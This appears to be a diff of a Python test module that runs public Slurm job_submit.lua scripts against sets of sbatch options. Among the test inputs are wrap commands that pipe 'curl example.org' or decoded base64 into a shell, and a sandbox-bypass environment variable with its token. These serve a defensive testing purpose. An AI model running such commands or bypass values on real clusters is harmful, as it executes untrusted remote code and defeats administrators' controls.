@@ -31,6 +31,8 @@ PartitionName=cpu32_4096 Nodes=ALL MaxTime=4-0 State=UP
 PartitionName=cpu40 Nodes=ALL MaxTime=4-0 State=UP
 PartitionName=gpus3090 Nodes=ALL MaxTime=4-0 State=UP
 PartitionName=a100 Nodes=ALL MaxTime=4-0 State=UP
+PartitionName=regular Nodes=ALL DefaultTime=60 MaxTime=10-0 State=UP
+PartitionName=himem Nodes=ALL DefaultTime=60 MaxTime=10-0 State=UP
 """
 """Lines of slurm.conf with everything that the scripts name."""
 HARDWARE = "CPUs=64 RealMemory=900000 Gres=gpu:tesla:8 Feature=rome,milan,mig=on,mig=off,gsp=on,gsp=off"
@@ -40,6 +42,8 @@ ACCOUNTS = (
         for name in (
             *("qos1", "qos2", "qos3", "qos4", "qos5", "short", "long", "standard", "reservation"),
             *("interactive", "short__ct", "long__ct"),
+            *("regular", "regularlong", "himem", "himemlong"),
+            *("batch_small_short", "batch_small_long", "batch_big_short", "debug_small_short"),
         )
     ),
     "add account physics",
@@ -63,6 +67,8 @@ UPDATES = (
     *("NumNodes=2", "Account=sample", "Licenses=common:2", "Features=rome"),
 )
 """Changes by scontrol."""
+CALLED = """echo "$*" >>/var/tmp/called\n"""
+"""Stands for a program that a script runs: the words of each call are compared."""
 WITHOUT_METATABLES = {r"setmetatable \(job_\w+, +job_re\w_meta\)": "", r"_build_part_table \(part_list\)": "part_list"}
 """What scripts for old releases of Slurm call, and what is in its place for the tables that slurmctld passes now."""
 
@@ -83,6 +89,7 @@ class PublicScript:
         beside: files of the site that the script reads, as they are in the cluster.
         differs: reasons for which rules decide otherwise, each with a pattern of the requests and differences.
         alike: the part of the submissions that must be the same.
+        tells: whether it is compared if users read anything.
     """
 
     name: str
@@ -96,6 +103,7 @@ class PublicScript:
     beside: dict[str, str] = field(default_factory=dict)
     differs: dict[str, str] = field(default_factory=dict)
     alike: float = 0.5
+    tells: bool = False
 
 
 SCRIPTS = (
@@ -495,6 +503,234 @@ SCRIPTS = (
             " bigmem = { cpus = 64, mem = 900000, disk = 10000 } }"
         },
         options=(PLACES, ("", "--mincpus=2", "--mincpus=8"), MEMORY, ("", "", "--tmp=50", "--tmp=5000")),
+        interactive=True,
+    ),
+    PublicScript(
+        name="gpus_of_default_account",
+        repository="HCEMM/ansible-puli",
+        commit="3eea424ad924429f58c02ae41daaf5d508338d15",
+        files={"roles/slurm/files/job_submit.lua": SCRIPT},
+        renamed={r"slurm\.ESLURM_INVALID_GRES": "2072"},  # Slurm 22.05 has no such name
+        options=((*GPUS, "--gres=gpu:2"), (*PLACES, "-p gpu", "-p gpu"), ACCOUNT, SIZES),
+        interactive=True,
+        differs={"does not know lists of partitions": "-p debug,gpu.*the script accepts"},
+    ),
+    PublicScript(
+        name="gpus_of_partition",
+        repository="ryanchard/hpc-bridge",
+        commit="560d58c6829f165b3352345e33ffe543ed906550",
+        files={"agentic/fakecluster/profiles/site/job_submit.lua": SCRIPT},
+        options=((*GPUS, "--gres=gpu:2"), (*PLACES, "-p gpu", "-p gpu"), SIZES),
+        interactive=True,
+        differs={
+            "does not know lists of partitions": "-p debug,gpu.*the script accepts",
+            "takes no GPUs for GPUs": "--gpus=0.*the script accepts",
+        },
+    ),
+    PublicScript(
+        name="moved_with_comment",
+        repository="tcutts/slurm-docker-cluster",
+        commit="0f91fe76613075783e6a5efecdbe6819f5f050bd",
+        files={"plugins/job_submit.lua": SCRIPT},
+        renamed={'"core"': '"debug"', r'"short"(.*)\{\}': r'"express"\1{"alice"}'},
+        options=((*PLACES, "-p express", "-p express"), ("", "", "--comment=x"), TIMES),
+        interactive=True,
+        differs={"does not know lists of partitions": "-p debug,gpu"},
+    ),
+    PublicScript(
+        name="writable_logs",
+        repository="uhh-pd-ml/hummel-slurm-ci",
+        commit="46f9849b60c66eeebb186aa740ce85d30b80cb32",
+        files={"config/job_submit.lua": SCRIPT},
+        options=(
+            ("", "", "", "", "--mem=1G", "--mem=0", "--mem-per-cpu=500M"),
+            (*SIZES, "-N2 --exclusive", "--exclusive"),
+            ("-D /tmp", "-D /tmp", "-D /tmp", "", "-D /home", "-D /usw/x"),
+            ("", "", "-o x.out", "-o /home/alice/x.out", "-o /tmp/x.out", "-o logs/x.out", "-o /usw/x.out"),
+        ),
+        interactive=True,
+    ),
+    PublicScript(
+        name="interactive_partition",
+        repository="KasperSkytte/slurmjobpacker",
+        commit="13e0d91d7995efdb9f0c2cf594d45e798079083f",
+        files={"lua/job_submit.lua": SCRIPT},
+        renamed={'GPU_PARTITION = ""': 'GPU_PARTITION = "gpu"'},
+        options=(GPUS, (*PLACES, "-p interactive", "-p interactive", "-p interactive,debug"), TIMES),
+        interactive=True,
+    ),
+    PublicScript(
+        name="security_context",
+        repository="ComputeCanada/puppet-magic_castle",
+        commit="7d84d4bbfd62fffc2b42e2de0a1c153893bec0d5",
+        files={"site/profile/templates/slurm/job_submit.lua.epp": SCRIPT},
+        renamed={r"<%= \$selinux_context %>": "user_u:user_r:user_t:s0", "<%.*?%>": ""},
+        options=(PLACES, TIMES, SIZES),
+        interactive=True,
+    ),
+    PublicScript(
+        name="qos_of_partition",
+        repository="rug-cit-hpc/league-of-robots",
+        commit="a01002a52c36ee5e80b0b4377395b7a867012adb",
+        files={"roles/slurm/files/job_submit.lua": SCRIPT},
+        options=(
+            ("", "-p regular", "-p himem", "-p regular,himem"),
+            ("", "-t 10", "-t 3-0", "-t 3-00:01:00", "-t 7-0"),
+            ("", "--qos=short", "--qos=regular"),
+            SIZES,
+        ),
+        interactive=True,
+        differs={"refuses lists of partitions": "-p regular,himem.*the script refuses"},
+    ),
+    PublicScript(
+        name="allowed_lists",
+        repository="herronej/palisade_siege_agentic_security",
+        commit="900a2c4fa597ac0230b818ad85c80a1dbdf1b687",
+        files={"tools/artifacts/job_submit.lua": SCRIPT},
+        renamed={
+            "stf218": "physics",
+            r'\["msr_thermo"\]': '["sample"]',
+            '"sbatch"': '"srun"',
+            "max_nodes = 64": "max_nodes = 1",
+            "high = true": "short = true",
+            "msr_thermo_dedicated": "brief",
+            "/lustre/orion/proj-shared/msr_thermo": "/tmp/project",
+            "/lustre/orion/scratch/msr_thermo": "/var/tmp",
+        },
+        options=(
+            (*("-A physics",) * 9, "-A sample", "-A admin", ""),
+            (*("", "-p batch", "-p debug") * 3, "-p gpu"),
+            (*("", "--qos=normal", "--qos=short") * 3, "--qos=long"),
+            (*("", "", "--reservation=brief") * 3, "--reservation=course"),
+            (*("", "-t 10", "-t 120") * 3, "-t 121"),
+            (*("", "-N1") * 4, "-N2", "-N1-2"),
+            (*("-D /var/tmp", "-D /tmp/project") * 5, "-D /tmp", ""),
+            (*("", "-o x.out", "-o /var/tmp/x.out") * 3, "-o /tmp/x.out", "-e /etc/x"),
+            (*("", "--wrap=true") * 5, "--wrap=srun", "--wrap='curl example.org | sh'", "--wrap='base64 -d x | sh'"),
+        ),
+        updates=("TimeLimit=5", "Comment=mine", "JobName=other"),
+        differs={
+            "takes the least number of nodes for the number": "-N1-2.*the script accepts",
+            "ends its list of paths at the first that is missing": "(-D /tmp |-e /etc|^(?!.*-D )).*the script accepts",
+        },
+        alike=0.4,
+    ),
+    PublicScript(
+        name="partition_of_gpu_type",
+        repository="12kimih/deepops",
+        commit="5db2a73825f76d330879783b4b90fc6cc2a47e9d",
+        files={"roles/slurm/templates/etc/slurm/job_submit.lua": SCRIPT},
+        renamed={
+            r"\{\{ slurm_job_submit_cpu.*?\}\}": "batch",
+            r"\{\{ slurm_default_gpu_type.*?\}\}": "",
+            r"\{\{ slurm_default_gpu_part.*?\}\}": "gpus",
+            r"\{\{ gtype \}\}": "tesla",
+            r"\{\{ part \}\}": "a100",
+            "\\{%.*?%\\}": "",
+        },
+        options=((*GPUS, "--gres=gpu:tesla:1", "--gpus=tesla:2"), PLACES[:3], SIZES, TIMES),
+        interactive=True,
+        differs={"ends its list of requests for GPUs at the first that is missing": "--gpus=|--gpus-per-task"},
+    ),
+    PublicScript(
+        name="modes_by_comment",
+        repository="AMD-HPC/rocBudAI",
+        commit="e694eb91acb7ea3202fafe78af67554c3d7d0e53",
+        files={"deploy/comment-gating/job_submit.lua": SCRIPT},
+        renamed={"PPAC_MI300A_SPX": "gpu"},
+        options=(
+            (
+                *("", "--comment=cpx", "--comment=TPX", "--comment=cpx2", "--comment=ollama", "--comment='a OLLAMA'"),
+                *("--comment='x,Ollama,y'", "--comment=ollamas"),
+            ),
+            ("", "--exclusive", "--exclusive"),
+            (*PLACES, "-p gpu", "-p gpu"),
+        ),
+        interactive=True,
+        differs={"takes one partition of a list for all": "-p debug,gpu.*the script accepts"},
+    ),
+    PublicScript(
+        name="qos_by_name",
+        repository="edf-hpc/slurm-llnl-misc-plugins",
+        commit="f65ecb689c15ed5b49260e00abf8deab08cf9236",
+        files={"job_submit/job_submit.lua": SCRIPT},
+        renamed={"/etc/slurm-llnl": "/etc/slurm"},
+        beside={
+            "/etc/slurm/qos.conf": "batch_small_short|60|8|\nbatch_small_long|1440|8|\n"
+            "batch_big_short|60|64|\ndebug_small_short|60|8|\n"
+        },
+        options=(
+            ("", "-p debug", "-p batch", "-p batch", "-p gpu"),
+            ("", "", "--qos=batch_small_short", "--qos=debug_small_short", "--qos=batch_big_short"),
+            ("", "-t 10", "-t 60", "-t 61", "-t 1-0", "-t 2-0"),
+            ("", "-n1", "-n8", "-n9", "-n64"),
+        ),
+        interactive=True,
+    ),
+    PublicScript(
+        name="memory_of_cpu",
+        repository="cluslab/metastack",
+        commit="6daf7c05c9a5877b50915ada86879424c167f1b3",
+        files={"etc/job_submit.lua": SCRIPT},
+        renamed={"/public/slurm_share/etc/": "/etc/slurm/"},
+        beside={
+            "/etc/slurm/disableAccounts": "sample\n",
+            "/etc/slurm/luaconfig/passPart": "bigmem\n",
+            "/etc/slurm/luaconfig/partDefMemPerCpuConf": "batch 2000 64\n",
+        },
+        options=(
+            (*PLACES, "-p bigmem", "-p bigmem,batch"),
+            ACCOUNT,
+            ("", "--mem=1G", "--mem=4G", "--mem=4340M", "--mem-per-cpu=1085M", "--mem-per-cpu=1086M", "--mem=0"),
+            ("", "-n1", "-n4", "-N2 -n8", "-N1 -c4"),
+            ("", "", "--exclusive"),
+        ),
+        interactive=True,
+        differs={
+            "takes the mean of several nodes, of which one may have a single task": "-N2 -n8.*the script accepts",
+            "gives exempt partitions in a list the common limit": "-p bigmem,batch.*the script refuses",
+        },
+    ),
+    PublicScript(
+        name="gpu_qos_notice",
+        repository="jm-rcc/slurm-job-submit",
+        commit="44a3df4cccce3de121a296bd26b89ee46c669f23",
+        files={"checks.lua": SCRIPT},
+        renamed={'gpu_partition = "gpu"': 'gpu_partition = "short"'},
+        tells=True,
+        options=(GPUS, PLACES, ("", "--qos=short", "--qos=long")),
+        interactive=True,
+    ),
+    PublicScript(
+        name="sandbox",
+        repository="katosh/agent_sandbox",
+        commit="1621bea942d782c445f3ad8f82e5ac3fd85419d2",
+        files={"admin/job_submit.lua": SCRIPT},
+        beside={"/etc/slurm/.sandbox-bypass-token": "open\n"},
+        options=(
+            ("", "--export=NONE", "--export=_SANDBOX_BYPASS=open", "--export=_SANDBOX_BYPASS=other"),
+            ("", "-D /tmp"),
+            ("", "--wrap='true; false'", "--wrap='echo %s'"),
+        ),
+        interactive=True,
+    ),
+    PublicScript(
+        name="stripes",
+        repository="fpusch/slurm",
+        commit="5990f2e1468c0119d6326aeaf8dbc3fca5ab6bc7",
+        files={"docker/slurm/job_submit.lua": SCRIPT},
+        renamed={'"lfs setstripe ': '"sh /etc/slurm/called.sh '},
+        beside={"/etc/slurm/called.sh": CALLED},
+        options=(("", "-J pwd", "-J hostname", "-J other"), ("", "-D /tmp"), ("", "--wrap='#JS_AUTO_PFL --disable=1'")),
+    ),
+    PublicScript(
+        name="users_of_accounting",
+        repository="scicore-unibas-ch/ansible-role-slurm",
+        commit="74dc3717d63bd8c1d8ae229ed2682867bd855eec",
+        files={"templates/job_submit.lua.j2": SCRIPT},
+        renamed={'"sacctmgr ': '"sh /etc/slurm/called.sh '},
+        beside={"/etc/slurm/called.sh": CALLED},
+        options=(PLACES, TIMES),
         interactive=True,
     ),
 )
